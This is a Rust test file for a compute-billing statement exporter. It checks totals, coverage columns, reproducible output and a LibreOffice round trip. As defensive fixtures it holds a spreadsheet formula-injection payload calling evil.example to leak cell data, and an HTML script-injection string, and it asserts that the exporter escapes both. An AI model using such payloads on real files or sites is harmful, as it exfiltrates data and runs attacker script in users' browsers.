use super::*;
use crate::export::paper::Paper;
use cardhour_books::statement::{
    BillingPolicy, Coverage, Entry, EntryKey, EntryKind, Issue, SignedOff, Statement, StatementTerms, statements,
};
use cardhour_domain::{CardTime, Currency, Money, Month, Name, Timestamp, Zone};
use rust_decimal::Decimal;
use std::collections::BTreeMap;
use std::path::Path;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"pay here\")";

fn currency() -> Currency {
    Currency::parse("CNY").unwrap()
}

fn month(text: &str) -> Month {
    Month::parse(text).unwrap()
}

fn entry(kind: EntryKind, project: &str, user: &str, hours: i64, cents: i128) -> Entry {
    let time = CardTime::from_part_ms(i128::from(hours) * CardTime::PART_MS_PER_CARD_HOUR);
    Entry {
        key: EntryKey {
            original_period: month("2026-03"),
            kind,
            org: Some("Lumen Robotics".into()),
            project: Some(project.into()),
            user: Some(user.into()),
            model: Some("NVIDIA H200 141GB HBM3e".into()),
            price_line: Some("1".into()),
            window: None,
            what: None,
        },
        period: month("2026-03"),
        original_entry: None,
        price_version: Some("4a0c33e1b7d2".into()),
        quantity: None,
        card_time: time,
        billed_time: time,
        list_amount: None,
        amount: Money::from_micros(cents * 10_000, currency()),
        reason: None,
    }
}

/// A charge at 18.50 an hour, at 0.6 of it in a window.
fn charge(project: &str, user: &str, hours: i64, window: Option<&str>) -> Entry {
    let list = i128::from(hours) * 1850;
    let mut charge =
        entry(EntryKind::Charge, project, user, hours, if window.is_some() { list * 6 / 10 } else { list });
    charge.list_amount = Some(Money::from_micros(list * 10_000, currency()));
    charge.key.window = window.map(Name::from);
    charge
}

/// A month of `users` in each of four projects, with everything a statement can have. By hand, for one user: 4 projects × (100 h × 18.50 + 50 h × 11.10)
/// = 4 × 2,405.00 = 9,620.00; a refund of −111.00, storage 640.00, an efficiency discount of −52.40, a correction of −37.00: 10,059.60.
pub(crate) fn month_of(users: usize) -> Vec<Entry> {
    let mut entries = Vec::new();
    for project in ["world-model", "speech-front", "sim2real", FORMULA] {
        for user in 0..users {
            let user = format!("user{user:03}");
            entries.push(charge(project, &user, 100, None));
            entries.push(charge(project, &user, 50, Some("off-peak")));
        }
    }
    let mut refund = entry(EntryKind::Refund, "world-model", "user000", -10, -11_100);
    refund.key.what = Some("node_fail".into());
    refund.reason = Some("node gpu-07 failed under the job".into());
    let mut storage = entry(EntryKind::CostItem, "speech-front", "user000", 0, 64_000);
    storage.key.what = Some("storage".into());
    storage.quantity = Some((Decimal::new(125, 1), "TiB-month".into()));
    let mut discount = entry(EntryKind::Efficiency, "sim2real", "user000", 0, -5_240);
    discount.key.what = Some("discount".into());
    let mut correction = entry(EntryKind::Charge, "world-model", "user000", -2, -3_700);
    correction.key.original_period = month("2026-02");
    correction.reason = Some("was 185.00 CNY for 10 card-hours, is 148.00 CNY for 8 card-hours".into());
    entries.extend([refund, storage, discount, correction]);
    entries
}

pub(crate) fn issued(entries: Vec<Entry>, closed: Option<&SignedOff>) -> Statement {
    let policy = BillingPolicy::default();
    let hours = |hours: i64| CardTime::from_part_ms(i128::from(hours) * CardTime::PART_MS_PER_CARD_HOUR);
    let known = Coverage { held: hours(600), unproven: hours(6), unseen: hours(150) };
    let coverage = BTreeMap::from([(Some(Name::from("Lumen Robotics")), known)]);
    let zone = Zone::parse("Asia/Shanghai").unwrap();
    let (period, currency, lines) = (month("2026-03"), currency(), BTreeMap::new());
    let issue = Issue { period, zone, currency, policy: &policy, coverage: &coverage, lines: &lines, closed };
    let mut statement = statements(entries, &issue).remove(0);
    statement.issuer = Some("Harbor Compute Platform".into());
    statement
}

pub(crate) fn signed_off() -> SignedOff {
    SignedOff {
        at: Timestamp::parse_rfc3339("2026-04-02T01:12:00Z").unwrap(),
        by: "Mei Lin".into(),
        comment: Some("all sources in".into()),
        sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into(),
    }
}

/// Twice the same, byte by byte, whatever the clock says.
#[test]
fn an_export_is_the_same_bytes_again() {
    let statement = issued(month_of(3), Some(&signed_off()));
    let all = || {
        let paper = Paper::of(&statement, &[]);
        [html::write(&paper), xlsx::write(&paper).unwrap(), csv::write(&statement), parquet::write(&statement).unwrap()]
    };
    let once = all();
    std::thread::sleep(std::time::Duration::from_millis(2100));
    assert!(all() == once, "a zip keeps times of two seconds: none of this moment may be in it");
}

#[test]
fn a_text_that_looks_like_a_formula_is_harmless_in_csv_and_markup_in_html() {
    let statement = issued(month_of(1), None);
    let csv = String::from_utf8(csv::write(&statement)).unwrap();
    assert!(csv.contains(",\"'=HYPERLINK(\"\"http://evil"), "{csv}");
    assert!(!csv.contains(",\"=") && !csv.contains(",="), "{csv}");
    let mut entries = month_of(1);
    entries[0].key.project = Some("</style><script>alert(1)</script>".into());
    let statement = issued(entries, None);
    let html = String::from_utf8(html::write(&Paper::of(&statement, &[]))).unwrap();
    assert!(!html.contains("<script") && html.contains("&#60;script&#62;"), "{html}");
    assert_eq!(html.matches("</style>").count(), 1);
}

/// By hand as at [`month_of`]: 10,059.60 of a list price of 4 × 150 × 18.50 = 11,100.00, so the windows take 1,480.00.
#[test]
fn the_page_says_how_the_list_price_becomes_the_total_and_what_is_not_known() {
    let statement = issued(month_of(1), None);
    let paper = Paper::of(&statement, &[]);
    let steps: Vec<String> =
        paper.steps().into_iter().map(|(what, amount)| format!("{what} {}", paper::money(amount))).collect();
    assert_eq!(
        steps,
        [
            "Card-hours at list price 11,100.00",
            "Price windows −1,480.00",
            "Charged 9,620.00",
            "Refunds −111.00",
            "Efficiency −52.40",
            "Other costs 640.00",
            "Corrections −37.00",
            "Total 10,059.60"
        ]
    );
    // By hand: 594 of 600 hours are 99 %, 450 of 600 are 75 %.
    let coverage = paper.coverage();
    assert!(coverage[0].starts_with("99.0 % of the held time is proven"), "{coverage:?}");
    assert!(coverage[1].starts_with("75.0 % of the held time was seen"), "{coverage:?}");
    assert_eq!(paper.period(), "1 March 2026 to 31 March 2026");
    assert_eq!(paper.status(), "Draft: the month is open, and figures can change");
    assert_eq!(paper.trace(), "cardhour trace 'month=2026-03,org=Lumen Robotics'");
    let closed = signed_off();
    let statement = issued(month_of(1), Some(&closed));
    let paper = Paper::of(&statement, &[]);
    assert_eq!(paper.status(), "Closed 2026-04-02 09:12 by Mei Lin (all sources in)");
    assert!(!String::from_utf8(html::write(&paper)).unwrap().contains("DRAFT"));
}

/// A tenth of the time under each charge is proven by nobody, and telemetry saw three quarters: each line of the page says so, and a page of which all is known has no such column.
#[test]
fn lines_of_a_page_say_how_much_of_them_is_known() {
    let page = |statement: &Statement| String::from_utf8(html::write(&Paper::of(statement, &[]))).unwrap();
    let mut statement = issued(month_of(1), None);
    let charges: Vec<Entry> =
        statement.entries.iter().filter(|entry| entry.kind() == EntryKind::Charge).cloned().collect();
    let mut known = |tenths: i128, quarters: i128| {
        let part = |part: i128, of: i128, time: CardTime| CardTime::from_part_ms(time.part_ms() / of * part);
        statement.lines = charges
            .iter()
            .map(|entry| {
                let held = entry.card_time;
                (
                    entry.key.clone(),
                    Coverage { held, unproven: part(tenths, 10, held), unseen: part(quarters, 4, held) },
                )
            })
            .collect();
        page(&statement)
    };
    let partly = known(1, 1);
    assert!(partly.contains(">Proven</th>") && partly.contains(">Seen</th>"), "{partly}");
    assert!(partly.contains(r#"<td class="n">90.0 %</td><td class="n">75.0 %</td>"#), "{partly}");
    let whole = known(0, 0);
    assert!(!whole.contains(">Proven</th>") && !whole.contains(">Seen</th>"), "{whole}");
}

/// What the site doesn't say isn't there; what it says stands on the page, in the workbook's facts and in the columns of the CSV.
#[test]
fn a_statement_says_its_fiscal_year_tax_and_payment_where_the_site_does() {
    let mut statement = issued(month_of(1), None);
    assert_eq!(Paper::of(&statement, &[]).terms(), []);
    statement.terms = StatementTerms {
        fiscal_year: "2025/26".into(),
        tax_included: Some(false),
        tax_note: Some("Net of VAT <6 %>".into()),
        payment_terms: Some("30 days".into()),
    };
    let paper = Paper::of(&statement, &[]);
    let said = [("Fiscal year", "2025/26"), ("Tax", "not in the amounts. Net of VAT <6 %>"), ("Payment", "30 days")];
    assert_eq!(paper.terms(), said.map(|(what, said)| (what, said.to_owned())));
    let html = String::from_utf8(html::write(&paper)).unwrap();
    assert!(html.contains("<dt>Payment</dt><dd>30 days</dd>") && html.contains("Net of VAT &#60;6 %&#62;"), "{html}");
    let csv = String::from_utf8(csv::write(&statement)).unwrap();
    let rows = records(&csv);
    let at = |name: &str| rows[0].iter().position(|column| column == name).unwrap();
    for row in &rows[1..] {
        assert_eq!((&row[at("fiscal_year")], &row[at("tax_included")]), ("2025/26", "false"));
        assert_eq!((&row[at("tax_note")], &row[at("payment_terms")]), ("Net of VAT <6 %>", "30 days"));
    }
}

/// Of LibreOffice's own settings: "Recalculation on File Load", Excel 2007 and newer: always.
const ALWAYS_RECALCULATE: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
</oor:items>
"#;

/// A workbook goes through LibreOffice, which works its formulas out again, and comes back as CSV: the total and its parts are those of the statement.
#[test]
fn a_workbook_shows_the_same_total_in_libreoffice() {
    let Some(soffice) =
        program("soffice", "a_workbook_shows_the_same_total_in_libreoffice needs LibreOffice (libreoffice-calc)")
    else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let statement = issued(month_of(2), None);
    let book = folder.path().join("statement.xlsx");
    std::fs::write(&book, xlsx::write(&Paper::of(&statement, &[])).unwrap()).unwrap();
    // Without this LibreOffice shows the values that stand beside the formulas, and nothing is worked out again.
    let user = folder.path().join("profile/user");
    std::fs::create_dir_all(&user).unwrap();
    std::fs::write(user.join("registrymodifications.xcu"), ALWAYS_RECALCULATE).unwrap();
    // Separator 44, quotes 34, UTF-8 76, all sheets -1: the filter's tokens of LibreOffice's help, "Filter Options for CSV".
    let status = std::process::Command::new(soffice)
        .arg(format!("-env:UserInstallation=file://{}/profile", folder.path().display()))
        .args([
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
        ])
        .arg("--outdir")
        .args([folder.path(), &book])
        .output()
        .unwrap();
    assert!(status.status.success(), "{status:?}");
    let sheet = |name: &str| std::fs::read_to_string(folder.path().join(format!("statement-{name}.csv"))).unwrap();
    // By hand as at `month_of`, with two users: 2 × 9,620.00 − 111.00 + 640.00 − 52.40 − 37.00 = 19,679.60.
    let people = sheet("Statement");
    let rows = records(&people);
    let totals: Vec<&::csv::StringRecord> = rows.iter().filter(|row| &row[0] == "Total").collect();
    let decimal = |text: &str| Decimal::from_str_exact(text).unwrap();
    let expected = decimal("19679.60");
    assert_eq!(decimal(&totals[0][1]), expected, "the total as a number");
    // By project and by user: sums that LibreOffice worked out, of the last column that has any.
    for sums in &totals[1..3] {
        let last = sums.iter().rfind(|cell| !cell.is_empty()).unwrap();
        assert_eq!(decimal(last), expected, "{sums:?}");
    }
    let entries = sheet("Entries");
    let rows = records(&entries);
    let amount = rows[0].iter().position(|name| name == "amount").unwrap();
    let sum: Decimal = rows[1..].iter().map(|row| decimal(&row[amount])).sum();
    assert_eq!(sum, expected, "the entries add up to it");
    assert!(
        entries.contains("=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"pay here\"\")"),
        "it is a text: {entries}"
    );
}

fn records(csv: &str) -> Vec<::csv::StringRecord> {
    let mut reader = ::csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv.as_bytes());
    reader.records().map(Result::unwrap).collect()
}

/// A program on the path. Where there is none the test is skipped by name, or fails where CARDHOUR_REQUIRE_ALL says that nothing may be.
fn program(name: &str, needs: &str) -> Option<std::path::PathBuf> {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let found = std::env::split_paths(&path).map(|folder| folder.join(name)).find(|path| Path::is_file(path));
    if found.is_none() {
        assert!(std::env::var_os("CARDHOUR_REQUIRE_ALL").is_none(), "{needs}");
        println!("skipped: {needs}");
    }
    found
}
